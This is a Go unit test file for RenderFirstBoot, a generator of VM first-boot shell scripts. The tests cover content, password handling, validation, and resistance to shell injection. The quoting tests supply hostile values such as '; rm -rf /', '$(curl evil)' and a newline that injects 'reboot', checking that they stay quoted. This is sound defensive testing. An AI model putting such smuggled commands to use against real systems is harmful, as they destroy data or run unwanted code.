package image

import (
	"strings"
	"testing"
)

func validParams() ScriptParams {
	return ScriptParams{
		Hostname:      "testvm.local",
		OrgID:         "12345",
		ActivationKey: "lab-key",
		Username:      "lab",
		Password:      "hunter2",
		PublicKey:     "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeFakeFakeFake op@host",
	}
}

func Test_RenderFirstBoot_Content(t *testing.T) {
	script, err := RenderFirstBoot(validParams())
	if err != nil {
		t.Fatalf("RenderFirstBoot: %v", err)
	}

	for _, want := range []string{
		"#!/bin/sh",
		"set -eu",
		"hostnamectl set-hostname testvm.local",
		"subscription-manager register --org 12345 --activationkey lab-key",
		"useradd -m -s /bin/bash lab",
		"| chpasswd",
		"install -d -m 0700 -o lab -g lab /home/lab/.ssh",
		"/home/lab/.ssh/authorized_keys",
		"chmod 0600",
		"/etc/sudoers.d/lab",
		"chmod 0440",
		"dnf -y install avahi",
		"systemctl enable --now avahi-daemon",
	} {
		if !strings.Contains(script, want) {
			t.Errorf("script missing %q:\n%s", want, script)
		}
	}
}

func Test_RenderFirstBoot_PasswordVariants(t *testing.T) {
	withPassword, err := RenderFirstBoot(validParams())
	if err != nil {
		t.Fatalf("RenderFirstBoot: %v", err)
	}
	if !strings.Contains(withPassword, "chpasswd") {
		t.Error("password configured but chpasswd missing")
	}
	if strings.Contains(withPassword, "passwd -l") {
		t.Error("password configured but account still locked")
	}

	p := validParams()
	p.Password = ""
	locked, err := RenderFirstBoot(p)
	if err != nil {
		t.Fatalf("RenderFirstBoot without password: %v", err)
	}
	if !strings.Contains(locked, "passwd -l lab") {
		t.Error("no password configured but account not locked")
	}
	if strings.Contains(locked, "chpasswd") {
		t.Error("no password configured but chpasswd present")
	}
}

func Test_RenderFirstBoot_QuotesHostileValues(t *testing.T) {
	tests := []struct {
		name   string
		mutate func(p *ScriptParams)
		// raw must not appear unquoted in the script
		raw string
	}{
		{
			name:   "single quote in password",
			mutate: func(p *ScriptParams) { p.Password = "it's; rm -rf /" },
			raw:    "; rm -rf /",
		},
		{
			name:   "command substitution in activation key",
			mutate: func(p *ScriptParams) { p.ActivationKey = "$(curl evil)" },
			raw:    "$(curl evil)",
		},
		{
			name:   "backticks in org id",
			mutate: func(p *ScriptParams) { p.OrgID = "`reboot`" },
			raw:    "`reboot`",
		},
		{
			name:   "spaces and ampersand in username",
			mutate: func(p *ScriptParams) { p.Username = "a b & c" },
			raw:    "a b & c",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := validParams()
			tt.mutate(&p)

			script, err := RenderFirstBoot(p)
			if err != nil {
				t.Fatalf("RenderFirstBoot: %v", err)
			}

			// Every script line must be either a template literal or carry
			// the hostile value inside shell quoting. The cheap check: the
			// raw metacharacter sequence must never appear outside quotes.
			// shellquote single-quotes anything unsafe, so the raw text may
			// only show up wrapped in single quotes.
			for _, line := range strings.Split(script, "\n") {
				idx := strings.Index(line, tt.raw)
				if idx < 0 {
					continue
				}
				before := line[:idx]
				if strings.Count(before, "'")%2 == 0 {
					t.Errorf("hostile value %q appears unquoted in line %q", tt.raw, line)
				}
			}
		})
	}
}

func Test_RenderFirstBoot_NewlineInHostname(t *testing.T) {
	p := validParams()
	p.Hostname = "host\nreboot"

	script, err := RenderFirstBoot(p)
	if err != nil {
		t.Fatalf("RenderFirstBoot: %v", err)
	}

	// An unquoted newline would turn the second half of the hostname into
	// its own command line.
	for _, line := range strings.Split(script, "\n") {
		if strings.TrimSpace(line) == "reboot" {
			t.Fatalf("newline in hostname escaped quoting:\n%s", script)
		}
	}
}

func Test_RenderFirstBoot_Validation(t *testing.T) {
	tests := []struct {
		name   string
		mutate func(p *ScriptParams)
	}{
		{"empty hostname", func(p *ScriptParams) { p.Hostname = "" }},
		{"empty org id", func(p *ScriptParams) { p.OrgID = "" }},
		{"empty activation key", func(p *ScriptParams) { p.ActivationKey = "" }},
		{"empty username", func(p *ScriptParams) { p.Username = "" }},
		{"empty public key", func(p *ScriptParams) { p.PublicKey = "" }},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := validParams()
			tt.mutate(&p)
			if _, err := RenderFirstBoot(p); err == nil {
				t.Error("expected validation error, got nil")
			}
		})
	}
}
